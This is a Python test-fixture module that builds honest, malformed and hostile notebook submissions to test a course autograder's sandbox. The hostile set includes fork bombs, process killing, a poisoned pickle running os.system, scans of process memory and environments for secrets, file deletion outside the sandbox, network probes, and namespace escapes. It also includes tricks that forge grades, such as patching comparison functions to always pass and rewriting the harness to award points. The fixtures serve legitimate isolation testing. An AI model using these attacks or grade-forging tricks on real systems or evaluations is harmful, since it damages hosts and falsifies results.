"""Submissions of lecture 1, honest and hostile, each with what it must get: ``make(folder, …)`` writes them all.

A hostile submission attacks in the cell of exercise 1.2, whose function gives wrong numbers, so that a forged point
would show; its 1.6 after (and its 1.1 before, where the attack ends the run) is right and must keep its points. What
lies outside the sandbox is named by `World`; the word LEAK in the output says that something was reached.
"""

import json
import os
import re
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

from course_tools.notebook_source import MARKER_LINE, exercise_of
from course_tools.notebooks import ROOT, find_lecture, read_notebook
from course_utils.exercises.divergences import EXERCISES

RIGHT = {
    exercise_of(cell): MARKER_LINE.sub("", cell.source)
    for cell in read_notebook(find_lecture("01").twin).cells
    if exercise_of(cell)
}
STUB = 'def {}(*args):\n    raise NotImplementedError("Exercise {}")'
WRONG = "def forward_kl_from_q(log_p, log_q):\n    return log_q.mean() + 7"


@dataclass(frozen=True)
class World:
    """What no submission may touch: a folder with a file, the grades, a port that listens; and a mark for processes."""

    canary: Path
    out: Path
    submissions: Path
    port: int
    mark: str


@dataclass(frozen=True)
class Entry:
    """A submission's file, the status of each exercise that is not missing, and what else must be found in the record.

    `shares`: the share of its points that a partial exercise earns; `flags`: exercise → part of one of its flags;
    `says`: exercise → part of its message, of what was got, or of what was printed; `problem`: part of the problem.
    """

    content: bytes
    statuses: dict[str, str] = field(default_factory=dict)
    shares: dict[str, float] = field(default_factory=dict)
    flags: dict[str, str] = field(default_factory=dict)
    says: dict[str, str] = field(default_factory=dict)
    problem: str = ""


def cell(id: str | None, source, **metadata) -> dict:
    """Return a code cell, of an exercise if it has an id."""
    metadata |= {"course": {"exercise": id}} if id else {}
    return {"cell_type": "code", "metadata": metadata, "source": source, "outputs": [], "execution_count": None}


def notebook(*cells: dict) -> bytes:
    """Return a notebook's file."""
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells}).encode()


def entry(*cells: dict, **expected) -> Entry:
    """Return the submission of these cells. Exercises that are not said to be anything else must be correct."""
    given = {c["metadata"]["course"]["exercise"] for c in cells if "course" in c["metadata"]}
    statuses = dict.fromkeys(given, "correct") | expected.pop("statuses", {})
    return Entry(notebook(*cells), statuses, **expected)


def solved(**answers: str) -> Entry:
    """Return a correct submission of the exercises "e1_1", … with these sources."""
    return entry(*(cell(name[1:].replace("_", "."), source) for name, source in answers.items()))


def hostile(code: str, status: str = "wrong", before: tuple = (), **expected) -> Entry:
    """Return a submission with an attack in 1.2: the code, and a wrong function unless the code defines one.

    `before`: cells before it. Without any, a 1.2 that ends needs no second run, which makes the tests faster.
    """
    source = code if "def forward_kl_from_q" in code else f"{code}\n\n{WRONG}"
    cells = (*before, cell("1.2", source), cell("1.6", RIGHT["1.6"]))
    return entry(*cells, statuses={"1.2": status}, **expected)


# Honest ------------------------------------------------------------------------------------------------------------

HELPER = """import numpy as np

def _xlogx_over_y(x, y):
    return np.where(x > 0, x * (np.log2(np.where(x > 0, x, 1)) - np.log2(y)), 0)

def kl_bits(p, q):
    with np.errstate(all="ignore"):
        return torch.as_tensor(_xlogx_over_y(p.numpy(), q.numpy()).sum(-1))
"""
USES_HELPER_OF_1_1 = (
    "def iwae(log_w):\n    return torch.as_tensor(np.logaddexp.reduce(log_w.numpy(), 0) - np.log(len(log_w)))"
)
NO_XLOGY = "def kl_bits(p, q):\n    return (p * (p / q).log2()).sum(-1)"
WITHOUT_GRADIENT = """def elbo_sample(x, weight, mu, sigma, m, s, eps):
    log_likelihood = Normal((m + s * eps) @ weight.T + mu, sigma).log_prob(x).sum(-1)
    return (log_likelihood - (0.5 * (s**2 + m**2 - 1) - s.log()).sum(-1)).detach()
"""
IN_PLACE = """def iwae(log_w):
    top = log_w.amax(0)
    log_w -= top
    return log_w.exp().mean(0).log() + top
"""
NOISY = """%matplotlib inline
import logging, os, sys, warnings
warnings.warn("this may be numerically unstable")
print("debug " * 5000, file=sys.stderr)

def iwae(log_w):
    print("shape", log_w.shape)
    logging.error("not an error")
    warnings.warn("again")
    os.write(2, b"straight to the descriptor")
    print("to the real one", file=sys.__stderr__)
    return log_w.logsumexp(0) - math.log(len(log_w))
"""
CALLS_OWN_1_1 = """def forward_kl_from_q(log_p, log_q):
    kl_bits(torch.tensor([0.5, 0.5]), torch.tensor([0.9, 0.1]))  # of no use, but it must be there
    r = log_p - log_q
    return (r.exp() * r).mean()
"""
LAMBDA = "kl_bits = lambda p, q: (torch.xlogy(p, p) - torch.xlogy(p, q)).sum(-1) / math.log(2)"
FLOATS = """def forward_kl_from_q(log_p, log_q):
    pairs = zip(log_p.tolist(), log_q.tolist())
    return sum(math.exp(p - q) * (p - q) for p, q in pairs) / len(log_p)
"""
SINGLE = """def matched_gaussian(w, m, s):  # rounds to 6e-8, which is less than the tolerance
    mu = (w * m).sum()
    return [mu.float(), ((w * (s**2 + (m - mu) ** 2)).sum() ** 0.5).float()]
"""
MATCHED_LIST = """def matched_gaussian(w, m, s):
    mu = w @ m
    return [mu.numpy(), (w @ (s**2 + (m - mu) ** 2)).sqrt().item()]
"""
OTHERWISE_CALLED = """import importlib
from course_utils.divergences import kl_gaussian_full as mine
D = importlib.import_module("course_utils." + "divergences")
def kl_full(*args):
    return (mine(*args) + getattr(D, "kl_gau" + "ssian_full")(*args)) / 2
"""
FROM_THE_MEMORY = """import gc, types
def kl_bits(p, q):
    held = (held for one in gc.get_objects() for held in gc.get_referents(one))
    code = next(c for c in held if isinstance(c, types.CodeType) and c.co_name == "kl_table")
    return types.FunctionType(code, vars(dv))(p, q) / math.log(2)
"""
FROM_THE_FILE = """import importlib
def kl_full(*args):
    return importlib.reload(dv).kl_gaussian_full(*args)
"""
DISARMED = """from course_utils import guard
for name in dir(guard):
    if not name.startswith("__"):
        setattr(guard, name, type("Nothing", (), {"__getattr__": lambda *_: lambda *_, **__: {}, "name": ""})())
def iwae(w):
    return dv.iwae_bound(w)
"""
ASKS_FOR_THE_SOLUTION = """import inspect
def forward_kl_from_q(*args):
    text = str(inspect.getsource(kl_bits)) + str(globals().get("In"))
    print(text)
    forward_kl_from_q.calls += 1
    if forward_kl_from_q.calls > 1:
        raise type(text, (ValueError,), {})(text)
    return text
forward_kl_from_q.calls = 0
"""
HEADS_THAT_FAIL = """%matplotlib qt
%load_ext autoreload
!pip install wandb
import wandb
from google.colab import drive
drive.mount("/content/drive")
data = open("data.csv").read()
"""
ENDLESS = """
import time
time.sleep(200)
while True:
    pass
"""
BY_A_LATER_FUNCTION = (
    RIGHT["1.4"]
    + """
first = kl_full
def kl_full(*args):
    assert root(4.0) == 2  # a helper of a later cell
    return first(*args)
"""
)
MASKED = """import numpy as np
def kl_bits(p, q):
    return np.ma.masked_array((torch.xlogy(p, p) - torch.xlogy(p, q)).sum(-1).numpy() / math.log(2))
"""
FRACTION = """from fractions import Fraction
def forward_kl_from_q(log_p, log_q):
    r = log_p - log_q
    return Fraction((r.exp() * r).mean().item())
"""
ARRAYS = """import array, decimal
def matched_gaussian(w, m, s):
    mu = w @ m
    sd = (w @ (s**2 + (m - mu) ** 2)).sqrt()
    return decimal.Decimal(mu.item()), np.array(sd)
import numpy as np
"""
HELPER_ALONE = "import numpy as np\n\ndef _ratio(p, q):\n    return np.where(p > 0, p * np.log2(p / q), 0)"
CALLS_HELPER = "def kl_bits(p, q):\n    return torch.as_tensor(_ratio(p.numpy(), q.numpy()).sum(-1))"
HALF = "%%time\ndef iwae(w):\n    return _mean(w) - math.log(len(w))"


def honest() -> dict[str, Entry]:
    """Return correct submissions in various styles, partial and wrong ones, and ones with honest mishaps."""
    open_cells = [cell(id, STUB.format(name, id)) for id, name in [("1.1", "kl_bits"), ("1.6", "iwae")]]
    right_6 = cell("1.6", RIGHT["1.6"])
    ending_2 = cell("1.2", "def forward_kl_from_q(log_p, log_q):\n    import os\n    os.abort()")
    halves = (
        cell("1.6", "def _mean(x):\n    return x.logsumexp(0)"),
        cell("1.6", HALF),
    )
    tagged = [cell("1.1", RIGHT["1.1"], tags=["skip-execution", "raises-exception", "parameters"])]
    injected = cell(None, 'device = "cuda"\nmath = torch = None', tags=["parameters", "injected-parameters"])
    checks = {id: cell(None, f'{EXERCISES[id].function} = check("{id}", {EXERCISES[id].function})') for id in RIGHT}
    no_tags = [one for id, source in RIGHT.items() for one in (cell(None, source), checks[id])]
    three = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}
    three["worksheets"][0]["cells"] = [
        {"cell_type": "code", "language": "python", "collapsed": False, "input": RIGHT[id], "outputs": []}
        | {"metadata": {"course": {"exercise": id}}}
        for id in ("1.1", "1.6")
    ]
    all_correct = dict.fromkeys(RIGHT, "correct")
    return {
        "right": entry(*(cell(id, source) for id, source in RIGHT.items())),
        "reordered Ünïcode 学生": entry(*(cell(id, RIGHT[id]) for id in ("1.6", "1.2", "1.1"))),
        "helper, numpy, import of an earlier cell": entry(
            cell("1.1", HELPER), ending_2, cell("1.6", USES_HELPER_OF_1_1), statuses={"1.2": "kernel died"},
        ),
        "helper in a cell of its own, answer below the open one": entry(
            cell(None, HELPER_ALONE), open_cells[0], cell(None, CALLS_HELPER), right_6,
            flags={"1.1": "found by the function's name"},
        ),
        "magic, floats, list, noise": solved(
            e1_1="%%time\n" + RIGHT["1.1"], e1_2=FLOATS, e1_3=MATCHED_LIST, e1_6=NOISY,
        ),
        "lambda, own 1.1 called, split cell": entry(cell("1.1", LAMBDA), cell("1.2", CALLS_OWN_1_1), *halves),
        "stub last, tags, parameters": entry(
            injected, *tagged, right_6, open_cells[1], flags={"1.6": "2 cells define"},
        ),
        "no tags": Entry(notebook(*no_tags), all_correct, flags=dict.fromkeys(RIGHT, "by the function's name")),
        "format 3": Entry(json.dumps(three).encode(), {"1.1": "correct", "1.6": "correct"}),
        "open": entry(*open_cells, statuses={"1.1": "not attempted", "1.6": "not attempted"}),
        "partial, single precision": entry(
            cell("1.1", NO_XLOGY), cell("1.3", SINGLE), right_6,
            statuses={"1.1": "partial"}, shares={"1.1": 3 / 5 / 3},
        ),
        "no gradient, and an argument written into": entry(
            cell("1.5", WITHOUT_GRADIENT), cell("1.6", IN_PLACE), statuses={"1.5": "wrong", "1.6": "wrong"},
        ),
        "later needs a failed one": entry(
            cell("1.1", "def kl_bits(p, q):\n    raise ValueError('no idea')"), cell("1.2", CALLS_OWN_1_1),
            statuses={"1.1": "error"}, says={"1.1": "ValueError: no idea"},
            flags={"1.2": "ran after the course's answer to 1.1"},
        ),
        "the solution beside it is asked for": entry(
            cell("1.1", "def kl_bits(p, q):\n    raise ValueError('no idea')"),
            cell("1.2", ASKS_FOR_THE_SOLUTION), statuses={"1.1": "error", "1.2": "wrong"}, says={"1.2": "not shown"},
            flags={"1.2": "ran after the course's answer to 1.1"},
        ),
        "syntax error": entry(
            cell("1.1", "def kl_bits(p, q)\n    return 0"), right_6,
            statuses={"1.1": "error"}, says={"1.1": "SyntaxError"}, flags={"1.1": "skipped `def kl_bits(p, q)`"},
        ),
        "other name": entry(
            cell("1.1", "def kl_bit(p, q):\n    return 0"), right_6,
            statuses={"1.1": "error"}, says={"1.1": "defines no function `kl_bits`, but `kl_bit`: was it renamed?"},
        ),
        "the library's own": entry(
            cell("1.1", "def kl_bits(p, q):\n    return dv.kl_table(p, q) / math.log(2)"),
            cell("1.4", OTHERWISE_CALLED), right_6,
            statuses={"1.1": "wrong", "1.4": "wrong"}, says={"1.1": "is the course's own function for this"},
            flags={"1.1": "calls the course's own divergences.kl_table", "1.4": "divergences.kl_gaussian_full"},
        ),
        "the library's own, by force": entry(
            cell("1.1", FROM_THE_MEMORY), cell("1.4", FROM_THE_FILE), cell("1.6", DISARMED),
            statuses={"1.1": "error", "1.4": "error", "1.6": "wrong"}, says={"1.4": "NotImplementedError"},
            flags={"1.6": "calls the course's own divergences.iwae_bound"},
        ),
        "heads that fail": solved(e1_1=HEADS_THAT_FAIL + RIGHT["1.1"], e1_6="raise SystemExit\n" + RIGHT["1.6"]),
        "experiments without an end": solved(
            e1_1=RIGHT["1.1"] + ENDLESS, e1_2=RIGHT["1.2"] + "\nimport os\nos._exit(1)",
            e1_6=RIGHT["1.6"] + "\nfor i in range(5):\n    x = torch.zeros(3 * 2**30, dtype=torch.uint8)",
        ),
        "prose below": solved(e1_6=RIGHT["1.6"] + "\n\nNow I try it:\n\nprint(iwae(torch.zeros(2, 2)))"),
        "class, constant, lambda in cells that fail": entry(
            cell(None, "import pandas as pd\nfrom google.colab import drive\nimport numpy as np"),
            cell(None, "LOG2 = math.log(2)\nclass Bits:\n    unit = LOG2\nhalf = lambda x: x / Bits.unit\nopen('x')"),
            cell("1.1", "def kl_bits(p, q):\n    return half((torch.xlogy(p, p) - torch.xlogy(p, q)).sum(-1))"),
            cell("1.4", BY_A_LATER_FUNCTION), cell("1.6", "root = np.sqrt\n" + RIGHT["1.6"]),
        ),
        "a function of the lecture": entry(
            cell("1.6", "def iwae(w):\n    noise(3)\n    return w.logsumexp(0) - math.log(len(w))"),
        ),
        "compiled": solved(
            e1_1=f"@torch.compile\n{RIGHT['1.1']}", e1_6=f"@torch.compile(dynamic=True)\n{RIGHT['1.6']}",
        ),
        "other kinds of numbers": solved(e1_1=MASKED, e1_2=FRACTION, e1_3=ARRAYS),
    }  # fmt: skip


def unreadable() -> dict[str, Entry]:
    """Return files that are no notebooks, or hardly."""
    deep = b'{"nbformat": 4, "cells": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    number = notebook(cell("1.1", 5))
    many = [cell("1.6", RIGHT["1.6"]), *(cell(None, "x = 1") for _ in range(3000))]
    long = cell("1.1", RIGHT["1.1"] + "\n" + "# more\n" * 100_000)
    surrogate = cell("1.6", RIGHT["1.6"] + "\nprint('\ud800', chr(0xD800))  # \udcff")
    return {
        "empty file": Entry(b"", problem="empty"),
        "empty notebook": Entry(notebook()),
        "not JSON": Entry(b"PK\x03\x04 this is a zip", problem="no notebook"),
        "JSON of something else": Entry(b"[1, 2, 3]", problem="no notebook"),
        "not UTF-8": Entry("{'Ä'}".encode("latin-1"), problem="no notebook"),
        "nested deeply": Entry(deep, problem="nested"),
        "source a number": Entry(number, problem="no notebook"),
        "metadata a list": Entry(number.replace(b'{"course": {"exercise": "1.1"}}', b"[1]"), problem="no notebook"),
        "cells missing": Entry(b'{"nbformat": 4, "nbformat_minor": 4, "metadata": {}}', problem="no notebook"),
        "huge": entry(long, *many, statuses={"1.1": "missing"}, flags={"1.1": "longer than"}),
        "surrogates": entry(surrogate),
    }


# Hostile -----------------------------------------------------------------------------------------------------------

# Each is put into the function of exercise 1.2: beside it, it would only be skipped.
# Words in capitals are replaced: see `hostile_entries`.
STOPS = {
    "loop": ("timeout", "while True:\n    pass"),
    "loop that swallows interrupts": (
        "timeout",
        """
import signal
for s in set(signal.valid_signals()) - {9, 19}:
    signal.signal(s, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    ),
    "exit": ("error", "import sys\nsys.exit(0)"),
    "end without cleaning": ("kernel died", "import os\nos._exit(0)"),
    "kill all": ("kernel died", "import os\nos.kill(-1, 9)"),
    "kill the parents": (
        "kernel died",
        """
import os, time
pid = os.getppid()
grandparent = int(open(f"/proc/{pid}/stat").read().split()[3])
os.kill(grandparent, 9)
os.kill(pid, 9)
time.sleep(3)
""",
    ),
    "three GiB": ("memory", "x = torch.zeros(3 * 2**30, dtype=torch.uint8)"),
    "three GiB in numpy": ("memory", "import numpy as np\nx = np.ones(3 * 2**27)"),
    "1.2 GiB in three processes": (
        "memory",
        """
import os, time
here, there = os.pipe()
for _ in range(3):
    if os.fork() == 0:
        x = os.urandom(1) * (400 * 2**20)
        os.write(there, b"x")
        time.sleep(60)
        os._exit(0)
for _ in range(3):
    os.read(here, 1)
time.sleep(3)
""",
    ),
    "fork bomb of 50 daemons": (  # their 50 parents, which nobody has waited for, count too
        "kernel died",
        """
import os, time
for _ in range(50):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["MARK", "600"])
        os._exit(0)
time.sleep(3)
""",
    ),
    "thread bomb": (
        "kernel died",
        """
import threading, time
threading.stack_size(2**16)
for _ in range(3000):
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
time.sleep(3)
""",
    ),
}

TRICKS = {
    "20 daemons": """
import os, time
for number in range(20):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv("/bin/sleep", ["MARK", "600"]) if number % 2 else time.sleep(600)
        os._exit(0)
""",
    "100 MB of output": """
import sys
for _ in range(100):
    print("x" * 10**6)
    sys.stderr.write("y" * 10**5)
""",
    "100 MB of files": """
try:
    for number in range(100):
        open(f"/tmp/work/{number}", "wb").write(bytes(10**6))
    print("LEAK")
except OSError:
    pass
import os
for number in range(100):
    if os.path.exists(f"/tmp/work/{number}"):
        os.remove(f"/tmp/work/{number}")
""",
    "patched numpy and torch": """
import numpy as np
for module in (np, torch, torch.testing):
    for name in ("allclose", "equal", "isclose", "array_equal", "assert_close"):
        setattr(module, name, lambda *args, **kwargs: True)
for name in ("__eq__", "__ne__", "__le__", "allclose", "isclose", "equal", "all"):
    setattr(torch.Tensor, name, lambda *args, **kwargs: True)
""",
    "float that equals everything": """
class Yes(float):
    __eq__ = __le__ = __ge__ = lambda *args: True
    __ne__ = __lt__ = __gt__ = lambda *args: False
    __sub__ = __rsub__ = __abs__ = lambda *args: Yes(0)
    __hash__ = float.__hash__

def forward_kl_from_q(log_p, log_q):
    return Yes(7)
""",
    "tensor that equals everything": """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None):
        if "eq" in str(function) or "close" in str(function):
            return True
        return super().__torch_function__(function, types, args, kwargs)

def forward_kl_from_q(log_p, log_q):
    return torch.tensor(7.0).as_subclass(Yes)
""",
    "object called a number": """
class number:
    __eq__ = lambda *args: True

def forward_kl_from_q(log_p, log_q):
    return number()
""",
    "poisoned pickle": """
import os, pickle

class Poison:
    def __reduce__(self):
        return os.system, ("touch CANARY/poisoned",)

for name in ("answer.pkl", "inputs.pkl", "inputs.npy"):
    pickle.dump(Poison(), open(name, "wb"))

def forward_kl_from_q(log_p, log_q):
    return Poison()
""",
    "harness rewritten": """
from course_tools.grading.inside import exchange, harness
right = ["tensor", "float64", [], [0.0]]
exchange.encode = lambda value, depth=0: right
harness.outcome = lambda function, arguments, places: {"value": right, "passed": True, "points": 99}
""",
    "answers sent twice": """
import json
from IPython.display import display
MIME = "application/x-course-calls+json"

def forward_kl_from_q(log_p, log_q):
    r = log_p - log_q
    value = ["tensor", "float64", [], [((r.exp() * r).mean() if len(inputs) == 1 else r.mean() + 7).item()]]
    return value

import course_tools.grading.inside.harness as h
inputs = [None]

def run(id, name, namespace, numbers, *more):
    if id == "1.2":
        first = h.exchange.decode(h.inputs["1.2"][0])
        right = {"value": forward_kl_from_q(*first)}
        display({MIME: json.dumps({n: right for n in ("0", "-3", "-2", "-1", "00", "3", "99")})}, raw=True)
    else:
        honest(id, name, namespace, numbers, *more)

honest, h.run = h.run, run
""",
    "malformed answers": """
import json
from IPython.display import display
import course_tools.grading.inside.harness as h
BAD = [
    None, 7, "x", [], [[]], {"value": 1}, {"value": ["tensor"]}, {"value": ["tensor", "float64", [10**9], [1.0]]},
    {"value": ["tensor", "float64", [-1], [1.0]]}, {"value": ["tensor", "float64", [2, 2], [1.0]]},
    {"value": ["module", "X", "import os; os.system('touch CANARY/module')", {}, {}]}, {"value": ["plain", {}]},
    {"error": 5, "text": [], "line": {}}, {"undefined": 0}, {"value": ["other", "\\0\\ud800"]},
    {"value": ["tuple", [["tuple", [["tuple", []]]]]]}, {"value": ["plain", 10**4000]}, {"value": ["other", ""]},
]

def run(id, name, namespace, numbers, *more):
    if id != "1.2":
        return honest(id, name, namespace, numbers, *more)
    for bad in BAD:
        display({h.MIME: json.dumps(bad)}, raw=True)
        display({h.MIME: json.dumps({"x": bad, "None": bad, "0": bad, "1": bad, "2": bad})}, raw=True)
    display({h.MIME: "[" * 100_000}, raw=True)
    display({h.MIME: {"0": 1}}, raw=True)
    values = [["list", [["plain", 0]] * 20_000], ["tensor", "float64", [200_000], [0.5] * 200_000]]
    display({h.MIME: json.dumps({str(n): {"value": values[n % 2]} for n in range(3)})}, raw=True)

honest, h.run = h.run, run
""",
    "exceptions that cannot be read": """
class Mute(BaseException):
    def __str__(self):
        raise self
Mute.__name__ = "\\ud800" * 1000

def forward_kl_from_q(log_p, log_q):
    raise Mute
""",
    "messages of the worker": """
import json, os
for number in range(3, 100):
    for message in ({"start": "setup 1"}, {"done": "setup 1", "error": ["x"]}, {"done": "calls 1.2 0"}, {"end": "x"}):
        try:
            if "pipe" in os.readlink(f"/proc/self/fd/{number}"):
                os.write(number, json.dumps(message).encode() + b"\\n")
        except OSError:
            pass
""",
    "inputs rewritten": """
import os
open("inputs.json", "w").write("{}")
os.remove("inputs.json")
os.chdir("/")
import course_tools.grading.inside.harness as h
h.inputs["1.6"] = h.inputs["1.2"]
""",
    "the interpreter's settings": """
import sys
sys.settrace(lambda *args: None)
sys.setrecursionlimit(100)
torch.set_default_dtype(torch.float16)
%reset -f
import torch
""",
    "other threads": """
import threading, time

def spoil():
    while True:
        globals()["iwae"] = lambda w: 7
        globals()["torch"] = None
        time.sleep(0)

threading.Thread(target=spoil, daemon=True).start()
""",
    "import of the exercises": """
import importlib, course_utils.exercises.divergences as own
try:
    from course_utils.exercises.divergences import EXERCISES
    print("LEAK")
except ImportError:
    pass
import sys
for name in [name for name in sys.modules if "exercises" in name]:
    del sys.modules[name]
try:
    import course_utils.exercises.checking
    print("LEAK")
except ImportError:
    pass
""",
    "search for the reference": """
import gc, glob, os, re, sys

for thing in gc.get_objects():
    if type(thing).__name__ in ("Exercise", "Assignment", "Case"):
        print("LEAK", type(thing))
if [name for name in sys.modules if re.match("course_.*(checking|judging|assignment|records|hand_in)", name)]:
    print("LEAK", "modules")
tools = "ROOT/course_tools/grading/"
hidden = ("SUBMISSIONS", "OUT", "CANARY", "ROOT/solutions", "ROOT/lectures", "ROOT/tests", "PACKAGE/exercises")
for folder in (*hidden, tools + "judge", tools + "book", tools + "hand_in"):
    for start in ("", "/proc/1/root", "/proc/self/root", "/proc/2/cwd/../../.."):
        for path in glob.glob(start + folder + "/**/*", recursive=True):
            if os.path.isfile(path):
                print("LEAK", path)
""",
    "search in memory": """
memory = open("/proc/self/mem", "rb", 0)
for line in open("/proc/self/maps"):
    ends, kind, *_, inode = line.split()[:5]
    first, last = (int(end, 16) for end in ends.split("-"))
    if "rw" not in kind or inode != "0" or last - first > 2**28:
        continue
    try:
        memory.seek(first)
        data = memory.read(last - first)
    except (OSError, ValueError):
        continue
    at = -1
    while (at := data.find(b"MEMORY-OF-", at + 1)) >= 0:  # which finds itself too
        if data[at + 10 : at + 17][::-1] == b"REHTONA":
            print("LEAK", data[at - 50 : at + 50])
""",
    "search in environments": """
import os
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline"):
        try:
            text = open(f"/proc/{pid}/{name}").read()
        except OSError:
            continue
        if "SECRE" "T-OF-THE-GRADER" in text:
            print("LEAK", pid, name)
""",
    "files outside": """
import os, shutil
for folder in ("CANARY", "OUT", "OUT/results", "SUBMISSIONS", "ROOT", "PACKAGE", "/", "/usr", "/tmp", "/etc", "/dev"):
    for name in ("MARK", "canary.txt", "run.json", "divergences.py", "__init__.py"):
        path = os.path.join(folder, name)
        for act in (os.remove, lambda p: open(p, "a").write("MARK"), lambda p: open(p, "w").write("MARK")):
            try:
                act(path)
                if not folder.startswith(("/tmp", "CANARY", "OUT", "SUB")):
                    print("LEAK", path)
            except OSError:
                pass
    try:
        os.makedirs(folder, exist_ok=True)
        os.symlink("CANARY", os.path.join(folder, "MARK-link"))
    except OSError:
        pass
for folder in ("CANARY", "OUT", "SUBMISSIONS"):
    shutil.rmtree(folder, ignore_errors=True)
""",
    "network": """
import socket
for address in (("127.0.0.1", PORT), ("localhost", PORT), ("1.1.1.1", 53), ("::1", PORT)):
    try:
        with socket.create_connection(address, 1) as connection:
            connection.sendall(b"LEAK")
            print("LEAK", address)
    except OSError:
        pass
""",
    "namespaces": """
import ctypes, os
libc = ctypes.CDLL(None)
pid = os.fork()
if pid == 0:
    os._exit(libc.unshare(0x10000000 | 0x20000000) == 0)
if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]):
    print("can hide")
if libc.mount(b"none", b"/usr", b"tmpfs", 0, None) == 0 or libc.chroot(b"/proc/1/root") == 0:
    print("LEAK")
for name in ("sys/kernel/core_pattern", "sys/kernel/hostname", "sys/vm/swappiness", "1/mem", "1/oom_score_adj"):
    try:
        os.close(os.open(f"/proc/{name}", os.O_WRONLY))  # opened only: who runs the tests as root could be harmed
        print("LEAK", name)
    except OSError:
        pass
""",
}

TOGETHER = {  # in one cell
    "reads": ("import of the exercises", "search for the reference", "search in memory", "search in environments"),
    "reaches outside": ("100 MB of files", "files outside", "network", "namespaces"),
    "other numbers": ("inputs rewritten", "harness rewritten"),
}
TRANSFORMERS = {
    "transformer drops cells": "lambda lines: []",
    "transformer rewrites cells": 'lambda lines: [line.replace("_harness.run", "str") for line in lines]',
}


def within(code: str) -> str:
    """Return a function of exercise 1.2 that attacks when it is called."""
    return "def forward_kl_from_q(log_p, log_q):\n" + textwrap.indent(code.strip("\n"), "    ")


def hostile_entries(world: World) -> dict[str, Entry]:
    """Return the attacks."""
    words = {"CANARY": world.canary, "OUT": world.out, "SUBMISSIONS": world.submissions, "PORT": world.port}
    words |= {"MARK": world.mark, "ROOT": ROOT, "PACKAGE": ROOT / "course_utils"}

    def filled(code: str) -> str:
        return re.sub(r"\b(CANARY|OUT|SUBMISSIONS|PORT|MARK|ROOT|PACKAGE)\b", lambda m: str(words[m[0]]), code)

    before = (cell("1.1", RIGHT["1.1"]),)
    entries = {
        name: hostile(within(filled(code)), status, before if status in ("timeout", "kernel died") else ())
        for name, (status, code) in STOPS.items()
    }
    grouped = [name for names in TOGETHER.values() for name in names]
    tricks = {name: code for name, code in TRICKS.items() if name not in grouped}
    tricks |= {name: "\n".join(TRICKS[trick] for trick in names) for name, names in TOGETHER.items()}
    for name, code in tricks.items():
        entries[name] = hostile(filled(code))
    entries["answers sent twice"] = hostile(TRICKS["answers sent twice"], "partial", shares={"1.2": 0.11})
    entries["exceptions that cannot be read"] = hostile(TRICKS["exceptions that cannot be read"], "error")
    for name, transformer in TRANSFORMERS.items():
        entries[name] = hostile(f"{WRONG}\nget_ipython().input_transformers_post.append({transformer})")
    remembered = f"# MEMORY-OF-ANOTHER\n{WRONG}\nsecret = 'MEMORY-OF-ANOTHER' * 1000"
    return {"a memory": hostile(remembered), **entries}


def make(folder: Path, world: World) -> dict[str, Entry]:
    """Write all submissions into a folder, half of them in folders of their own; return student → entry."""
    entries = {**honest(), **unreadable(), **hostile_entries(world)}
    for number, (student, one) in enumerate(entries.items()):
        path = folder / f"{student}.ipynb" if number % 2 else folder / student / "01_kl_and_elbo.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(one.content)
    os.symlink(find_lecture("01").twin, folder / "linked.ipynb")
    return entries
